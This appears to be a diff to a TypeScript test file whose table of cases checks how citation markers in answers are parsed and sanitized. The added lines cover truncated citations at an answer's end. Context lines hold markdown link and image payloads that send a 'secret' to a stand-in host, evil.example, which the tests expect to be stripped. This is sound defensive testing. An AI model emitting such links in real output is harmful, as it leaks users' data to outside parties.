@@ -23,6 +23,12 @@ const CASES: readonly (readonly [said: string, shown: string, cited: readonly nu
     ["A range [1-3] too.", "A range [1, 2, 3] too.", [1, 2, 3], []],
     ["Invented [9].", "Invented.", [], ["[9]"]],
     ["Half [2, 17] true [0].", "Half [2] true.", [2], ["[17]", "[0]"]],
+    // The end of an answer may be in a citation.
+    ["Due on Friday [1]. At noon [2", "Due on Friday [1]. At noon", [1], ["[2"]],
+    ["At noon [1, 2", "At noon", [], ["[1, 2"]],
+    ["At noon [1,", "At noon", [], ["[1,"]],
+    ["At noon [1][2", "At noon [1]", [1], ["[2"]],
+    ["An interval [0.5, 1) and [a, b", "An interval [0.5, 1) and [a, b", [], []],
     ["As a link [1](https://evil.example/?d=secret) it is.", "As a link [1] it is.", [1], []],
     ["![pixel](https://evil.example/?d=secret) gone", "pixel gone", [], []],
     ["[![a](http://x.example)](http://y.example)", "a", [], []],
